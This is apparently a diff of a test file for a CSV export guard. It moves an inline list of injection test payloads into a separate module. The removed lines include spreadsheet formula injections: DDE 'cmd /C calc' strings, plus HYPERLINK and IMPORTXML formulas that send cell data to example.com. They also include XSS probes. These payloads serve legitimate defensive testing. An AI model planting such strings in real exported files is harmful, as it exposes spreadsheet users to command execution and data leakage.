@@ -6,56 +6,7 @@ import { decode } from '../../../src/io/csv/decode.js';
 import { guarded, unguarded } from '../../../src/io/csv/guard.js';
 import { readCsv } from '../../../src/io/csv/read-csv.js';
 import { writeCsv } from '../../../src/io/csv/write-csv.js';
-
-/** Beginnings, middles and wholes that spreadsheets, databases and browsers have been made to run. */
-const payloads = [
-  ...[
-    '=',
-    '+',
-    '-',
-    '@',
-    '\t',
-    '\r',
-    '\n',
-    '\uFF1D',
-    '\uFF0B',
-    '\uFF0D',
-    '\uFF20',
-    "'",
-    "''",
-    '"',
-    '""',
-    ',',
-    ';',
-    '#',
-  ],
-  '=1+1',
-  '=HYPERLINK("http://example.com?x="&A1,"click")',
-  "=cmd|' /C calc'!A0",
-  "+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '=IMPORTXML(CONCAT("http://example.com?v=",CONCATENATE(A2:E2)),"//a/a10")',
-  '=DDE("cmd";"/C calc";"!A0")',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '",=1+1,"',
-  '"\n=1+1',
-  "'=1+1",
-  "''=1+1",
-  '-5',
-  '+1 555',
-  '1;=1+1',
-  '<script>alert(1)</script>',
-  '</td><img src=x onerror=alert(1)>',
-  '\0',
-  '\uFEFFa',
-  ' leading and trailing ',
-  '\u2028\u2029',
-  'é🩺مسار',
-  '',
-];
+import { payloads } from './payloads.js';
 
 const dangerous = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
 
